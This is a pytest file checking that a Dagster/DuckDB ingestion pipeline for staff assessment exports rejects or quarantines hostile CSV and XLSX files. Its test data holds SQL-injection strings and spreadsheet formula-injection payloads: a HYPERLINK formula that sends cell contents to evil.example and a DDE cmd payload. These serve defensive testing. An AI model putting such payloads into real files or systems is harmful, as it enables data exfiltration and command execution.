"""Hostile exports (tests/hostile, plus huge files built here): each is either rejected whole
with a message naming the file, or read with every row loaded or quarantined with a reason;
the good file beside it always loads. Finally the Dagster asset over all of them at once."""

from __future__ import annotations

import json
import shutil
from dataclasses import dataclass
from pathlib import Path

import duckdb
import polars as pl
import pytest

from pipelines.exports import ASSESSMENT_COLUMNS
from pipelines.ingest import assessments, reading
from tests.ingest_support import ASSESSMENT_ROW as BASE
from tests.ingest_support import load_folder, materialize_sources, read_folder

CORPUS = Path(__file__).parent / "hostile"
AGENCIES = {"OPD01", "OPD02"}
KEY = b"hostile-key"
SOURCE_DIR = "raw/assessments"
HEADER = ";".join(ASSESSMENT_COLUMNS)
REJECTED_FILES = {
    "duplicated_headers.csv": "duplicate column(s): nip (columns 1 (A) and 2 (B))",
    "empty.csv": "the file is empty",
    "garbage.csv": (
        "not a text (CSV) file: it contains NUL bytes (binary data, or a UTF-16 'Unicode "
        "text' export; save it as CSV UTF-8 instead)"
    ),
    "garbage_no_nul.csv": (
        "not a text (CSV) file: 276 of the first 2048 characters are control characters "
        "or undecodable bytes"
    ),
    "header_only.csv": "has a header row but no data rows",
    "missing_columns.csv": (
        "missing required column(s): tahun, periode (found: nip, nama, kode_opd, nama_opd, "
        "unit_kerja, jabatan, jenis_jabatan, golongan, kode_indikator, indikator, target, "
        "realisasi, satuan, nilai_mandiri, nilai_atasan, rating_hasil_kerja, rating_perilaku, "
        "predikat, nip_penilai)"
    ),
    "renamed_columns.csv": (
        "missing required column(s): nip, kode_opd (found: nip_pegawai, nama, kode_satker, "
        "nama_opd, unit_kerja, jabatan, jenis_jabatan, golongan, tahun, periode, "
        "kode_indikator, indikator, target, realisasi, satuan, nilai_mandiri, nilai_atasan, "
        "rating_hasil_kerja, rating_perilaku, predikat, nip_penilai)"
    ),
    "truncated.xlsx": (
        "cannot be read as an Excel workbook (calamine error: Xlsx error: Zip error: "
        "invalid Zip archive: Could not find EOCD)"
    ),
    "unclosed_quote.csv": (
        'cannot be parsed as CSV at line 3 (unexpected end of data; a quote (") opened '
        "and not closed?)"
    ),
}


def line(**values: str) -> str:
    return ";".join({**BASE, **values}[c] for c in ASSESSMENT_COLUMNS)


GOOD = "\r\n".join([HEADER, line(), line(kode_indikator="IKI-2")]) + "\r\n"


@dataclass(frozen=True)
class Outcome:
    files: dict[str, dict]  # raw.files rows by file name
    valid: pl.DataFrame
    quarantine: pl.DataFrame

    def rejections(self, name: str) -> list[tuple[int, str, str]]:
        rows = self.quarantine.filter(pl.col("source_file") == f"{SOURCE_DIR}/{name}")
        return sorted(rows.select("source_row", "column_name", "reason").iter_rows())

    def loaded(self, name: str, *columns: str) -> list[tuple]:
        rows = self.valid.filter(pl.col("source_file") == f"{SOURCE_DIR}/{name}")
        return rows.sort("source_row").select(*columns, "source_row").rows()


def data_dir_with(tmp_path: Path, names: list[str], built: dict[str, bytes] | None = None) -> Path:
    data_dir = tmp_path / "data"
    folder = data_dir / SOURCE_DIR
    folder.mkdir(parents=True)
    for name in names:
        shutil.copyfile(CORPUS / name, folder / name)
    for name, content in (built or {}).items():
        (folder / name).write_bytes(content)
    (folder / "good.csv").write_text(GOOD, encoding="utf-8")
    return data_dir


def ingest(tmp_path: Path, *names: str, built: dict[str, bytes] | None = None) -> Outcome:
    """Read + validate a folder holding the hostile files and good.csv; check that no row
    is lost and that good.csv loads whole."""
    data_dir = data_dir_with(tmp_path, list(names), built)
    folder = data_dir / SOURCE_DIR
    read, _ = read_folder(assessments.definition, data_dir, folder)
    loaded = load_folder(assessments.definition, data_dir, AGENCIES, KEY, folder)
    files = per_file(loaded.files)
    assert_nothing_lost(read, loaded.raw, loaded.quarantine, files)
    by_name = {Path(r["source_file"]).name: r for r in files.iter_rows(named=True)}
    assert by_name["good.csv"] == {
        "source_file": f"{SOURCE_DIR}/good.csv",
        "n_rows_read": 2,
        "n_rows_loaded": 2,
        "n_rows_quarantined": 0,
        "error": None,
    }
    return Outcome(by_name, loaded.raw, loaded.quarantine)


def per_file(files: pl.DataFrame) -> pl.DataFrame:
    """raw.files counts (one row per file and quarter) summed per file."""
    return (
        files.group_by("source_file", maintain_order=True)
        .agg(pl.col("^n_rows_.*$").sum(), pl.col("error").first())
        .sort("source_file")
    )


def assert_nothing_lost(
    read: pl.DataFrame, valid: pl.DataFrame, quarantine: pl.DataFrame, files: pl.DataFrame
) -> None:
    """Per file: rejected whole (no row anywhere, error given) or every row read is in
    exactly one of valid / quarantine, and raw.files counts say so."""
    for row in files.iter_rows(named=True):
        name = row["source_file"]
        read_rows = set(read.filter(pl.col("source_file") == name)["source_row"].to_list())
        loaded = valid.filter(pl.col("source_file") == name)["source_row"].to_list()
        rejected = set(quarantine.filter(pl.col("source_file") == name)["source_row"].to_list())
        if row["error"] is not None:
            assert row["error"].startswith(f"{name}: ")
            assert (row["n_rows_read"], row["n_rows_loaded"], row["n_rows_quarantined"]) == (
                0,
                0,
                0,
            )
            assert read_rows == set() and loaded == [] and rejected == set()
        else:
            assert len(loaded) == len(set(loaded))
            assert set(loaded).isdisjoint(rejected)
            assert set(loaded) | rejected == read_rows
            assert row["n_rows_read"] == len(read_rows)
            assert row["n_rows_loaded"] == len(loaded)
            assert row["n_rows_quarantined"] == len(rejected)


@pytest.mark.parametrize("name", sorted(REJECTED_FILES))
def test_unreadable_file_is_rejected_whole_and_named(tmp_path: Path, name: str) -> None:
    outcome = ingest(tmp_path, name)
    assert outcome.files[name]["error"] == f"{SOURCE_DIR}/{name}: {REJECTED_FILES[name]}"
    assert outcome.loaded("good.csv", "kode_indikator") == [("IKI-1", 2), ("IKI-2", 3)]


def test_mixed_encodings_decode_each_line(tmp_path: Path) -> None:
    # line 2 UTF-8, line 3 Windows-1252, line 4 UTF-8
    outcome = ingest(tmp_path, "mixed_encoding.csv")
    assert outcome.loaded("mixed_encoding.csv", "nama") == [
        ("Sékar", 2),
        ("André", 3),
        ("Óscar Putra", 4),
    ]
    assert outcome.rejections("mixed_encoding.csv") == []


def test_undecodable_bytes_quarantine_the_row(tmp_path: Path) -> None:
    # byte 0x81 is undefined in Windows-1252 and invalid in UTF-8
    outcome = ingest(tmp_path, "undecodable_bytes.csv")
    assert outcome.rejections("undecodable_bytes.csv") == [
        (
            2,
            "nama",
            "nama 'Bu\ufffddi' contains undecodable bytes (shown as \ufffd): neither UTF-8 "
            "nor Windows-1252",
        )
    ]
    assert outcome.loaded("undecodable_bytes.csv", "nama") == [("André", 3)]


def test_million_character_fields_are_quarantined_and_counted(tmp_path: Path) -> None:
    # row 2: a plain 1,000,000-character value; row 3: a quoted 1,000,000-character value
    # with separators and 250,000 line breaks, so the next row starts on line 250,004
    # (its final line break is trimmed like any surrounding whitespace: 999,999 remain).
    spanning = "ab;\n" * 250_000
    content = "\r\n".join(
        [
            HEADER,
            line(indikator="x" * 1_000_000),
            line(indikator='"' + spanning + '"', kode_indikator="IKI-2"),
            line(kode_indikator="IKI-3"),
        ]
    )
    outcome = ingest(tmp_path, built={"huge_field.csv": content.encode("utf-8")})
    too_long = "characters long, more than the 32767 a spreadsheet cell holds"
    assert outcome.rejections("huge_field.csv") == [
        (2, "indikator", f"indikator is 1000000 {too_long}"),
        (3, "indikator", f"indikator is 999999 {too_long}"),
    ]
    assert outcome.loaded("huge_field.csv", "kode_indikator") == [("IKI-3", 250_004)]
    record = json.loads(outcome.quarantine.filter(pl.col("source_row") == 2)["raw_record"][0])
    assert record["indikator"] == "x" * 1000 + "… [1000000 characters in all]"
    assert record["kode_indikator"] == "IKI-1"


def test_scientific_notation_nips_are_quarantined(tmp_path: Path) -> None:
    outcome = ingest(tmp_path, "scientific_nip.csv", "scientific_nip.xlsx")
    lost = "is in scientific notation: Excel rounded it and the digits cannot be recovered"
    assert outcome.rejections("scientific_nip.csv") == [
        (2, "nip", f"NIP '1.98503E+17' {lost}"),
        (3, "nip", f"NIP '1,98503E+17' {lost}"),
    ]
    assert outcome.loaded("scientific_nip.csv", "kode_indikator") == [("IKI-3", 4)]
    # xlsx: a number cell holding the NIP
    assert outcome.rejections("scientific_nip.xlsx") == [
        (2, "nip", f"NIP '1.98503122010011e+17' {lost}")
    ]
    assert outcome.loaded("scientific_nip.xlsx", "kode_indikator") == [("IKI-2", 3)]


def test_quotes_and_sql_metacharacters_are_plain_text(tmp_path: Path) -> None:
    drop = "'; DROP TABLE raw.assessments; --"
    outcome = ingest(tmp_path, "sql_quotes.csv")
    assert outcome.loaded("sql_quotes.csv", "nama", "nama_opd", "unit_kerja") == [
        ("O'Brien", drop, "Sekretariat", 2),
        ("Budi", 'Dinas "Pendidikan"', "C:\\data\\opd\\", 3),
        ('Robert"); DROP TABLE raw.files;--', "\\\"\\'", "Sekretariat", 5),
    ]
    assert outcome.rejections("sql_quotes.csv") == [
        (4, "kode_opd", f"kode_opd '{drop}' is not a known agency (raw.agencies)")
    ]


def test_stray_quote_inside_an_unquoted_value_is_read_as_text(tmp_path: Path) -> None:
    outcome = ingest(tmp_path, "stray_quote.csv")
    assert outcome.loaded("stray_quote.csv", "nama_opd") == [
        ('Dinas "Kebersihan" Kota', 2),
        ("Dinas", 3),
    ]


def test_row_shifted_by_an_unquoted_separator_is_quarantined(tmp_path: Path) -> None:
    outcome = ingest(tmp_path, "shifted_row.csv")
    assert outcome.rejections("shifted_row.csv") == [
        (
            2,
            "*",
            "row has 1 value(s) to the right of the last header column (first: "
            "'199001012022212001'): a separator inside an unquoted value probably shifted "
            "the row",
        )
    ]
    assert outcome.loaded("shifted_row.csv", "nama_opd", "realisasi") == [("Dinas", 87.5, 3)]


def test_formula_like_cells_are_stored_verbatim(tmp_path: Path) -> None:
    # Ingestion keeps data as written; neutralising is done when writing files for people
    # (pipelines.publish.safe_export). A numeric '-5' is a value, checked like any other.
    outcome = ingest(tmp_path, "formula_cells.csv")
    assert outcome.loaded(
        "formula_cells.csv", "nama", "unit_kerja", "jabatan", "indikator", "satuan"
    ) == [
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
            "+62 811 000",
            "@SUM(A1)",
            "-Laporan",
            "%",
            2,
        ),
        ("=1+1", "Sekretariat", "Analis", "Laporan", "=cmd|' /C calc'!A0", 4),
    ]
    assert outcome.rejections("formula_cells.csv") == [
        (3, "realisasi", "realisasi '-5.0' must not be negative")
    ]


def test_foreign_digits_and_overflowing_numbers_are_quarantined(tmp_path: Path) -> None:
    # '٨٧' (Arabic-Indic 87) used to pass the number pattern and become a silent null;
    # 400 nines used to become +inf.
    outcome = ingest(tmp_path, "odd_numbers.csv")
    assert outcome.rejections("odd_numbers.csv") == [
        (2, "nilai_mandiri", "nilai_mandiri '٨٧' is not a number"),
        (3, "target", f"target '{'9' * 400}' is too large to be a number"),
    ]
    assert outcome.loaded("odd_numbers.csv", "kode_indikator") == [("IKI-3", 4)]


def test_unexpected_reader_failure_rejects_that_file_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Whatever a reader raises on hostile bytes, that file is rejected with the error and
    # the folder still loads.
    real_read = reading.iter_export

    def fragile(path: Path, *args, **kwargs):
        blocks = real_read(path, *args, **kwargs)
        if path.name == "sql_quotes.csv":  # fails after its first block was taken
            yield next(blocks)
            raise RuntimeError("reader bug")
        yield from blocks

    monkeypatch.setattr(reading, "iter_export", fragile)
    outcome = ingest(tmp_path, "sql_quotes.csv")
    assert outcome.files["sql_quotes.csv"]["error"] == (
        f"{SOURCE_DIR}/sql_quotes.csv: could not be read (RuntimeError: reader bug)"
    )


# ---------------------------------------------------------------- the Dagster asset

REFERENCE = {
    "agencies.csv": "kode_opd,nama_opd,pemda\nOPD01,Dinas,Kota A\nOPD02,Badan,Kota A\n",
    "predikat_organisasi.csv": "kode_opd,tahun,predikat\nOPD01,2024,Baik\n",
    "service_population.csv": "kode_opd,unit_layanan,tahun,populasi\nOPD01,Loket A,2024,1200\n",
}
# file -> (rows read, loaded, quarantined) for the files that are read
READ_FILES = {
    "formula_cells.csv": (3, 2, 1),
    "good.csv": (2, 2, 0),
    "huge_field.csv": (2, 1, 1),
    "mixed_encoding.csv": (3, 3, 0),
    "odd_numbers.csv": (3, 1, 2),
    "scientific_nip.csv": (3, 1, 2),
    "scientific_nip.xlsx": (2, 1, 1),
    "shifted_row.csv": (2, 1, 1),
    "sql_quotes.csv": (4, 3, 1),
    "stray_quote.csv": (2, 2, 0),
    "undecodable_bytes.csv": (2, 1, 1),
}


def test_asset_over_the_whole_corpus(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    names = sorted(p.name for p in CORPUS.iterdir() if p.suffix in {".csv", ".xlsx"})
    huge = "\r\n".join([HEADER, line(indikator="y" * 1_000_000), line(kode_indikator="IKI-9")])
    data_dir = data_dir_with(tmp_path, names, {"huge_field.csv": huge.encode("utf-8")})
    (data_dir / "reference").mkdir()
    for name, text in REFERENCE.items():
        (data_dir / "reference" / name).write_text(text)
    warehouse = tmp_path / "warehouse.duckdb"
    with duckdb.connect(str(warehouse)) as conn:  # a warehouse from before raw.files.error
        conn.execute("CREATE SCHEMA raw")
        conn.execute(
            "CREATE TABLE raw.files (source VARCHAR, source_file VARCHAR, file_sha256 VARCHAR,"
            " n_rows_read INTEGER, n_rows_loaded INTEGER, n_rows_quarantined INTEGER)"
        )
    monkeypatch.setenv("KINERJA_DATA_DIR", str(data_dir))
    monkeypatch.setenv("KINERJA_WAREHOUSE", str(warehouse))
    monkeypatch.setenv("KINERJA_PSEUDONYM_KEY", "hostile-key")
    monkeypatch.setenv("KINERJA_MAX_QUARANTINE_SHARE", "1")  # a corpus of bad rows: no block

    result = materialize_sources(["assessments"], warehouse)

    assert result.success
    with duckdb.connect(str(warehouse), read_only=True) as conn:
        files = conn.execute(
            "SELECT source_file, sum(n_rows_read), sum(n_rows_loaded), "
            "sum(n_rows_quarantined), any_value(error) FROM raw.files GROUP BY ALL ORDER BY ALL"
        ).fetchall()
        loaded = conn.execute(
            "SELECT source_file, count(*) FROM raw.assessments GROUP BY ALL ORDER BY ALL"
        ).fetchall()
        rejected = conn.execute(
            "SELECT source_file, count(DISTINCT source_row) FROM quarantine.assessments "
            "GROUP BY ALL ORDER BY ALL"
        ).fetchall()
    expected_files = [
        (f"{SOURCE_DIR}/{name}", *READ_FILES[name], None)
        if name in READ_FILES
        else (f"{SOURCE_DIR}/{name}", 0, 0, 0, f"{SOURCE_DIR}/{name}: {REJECTED_FILES[name]}")
        for name in sorted([*names, "good.csv", "huge_field.csv"])
    ]
    assert files == expected_files
    assert loaded == [(f"{SOURCE_DIR}/{n}", c[1]) for n, c in sorted(READ_FILES.items()) if c[1]]
    assert rejected == [(f"{SOURCE_DIR}/{n}", c[2]) for n, c in sorted(READ_FILES.items()) if c[2]]

    checks = {e.check_name: e for e in result.get_asset_check_evaluations()}
    assert checks["rows_accounted_for"].passed
    readable = checks["all_files_readable"]
    assert not readable.passed
    rejected_names = [f"{SOURCE_DIR}/{n}" for n in sorted(REJECTED_FILES)]
    assert readable.metadata["rejected_file_names"].value == rejected_names
    assert readable.metadata["unreadable_files"].value == len(REJECTED_FILES)
    listing = readable.metadata["rejected_files"].value
    for name, reason in REJECTED_FILES.items():
        assert f"- `{SOURCE_DIR}/{name}`: {SOURCE_DIR}/{name}: {reason}" in listing
    metadata = result.asset_materializations_for_node("ingest_assessments")[0].metadata
    assert metadata["rows_read"].value == sum(c[0] for c in READ_FILES.values())
    assert metadata["files_rejected"].value == len(REJECTED_FILES)
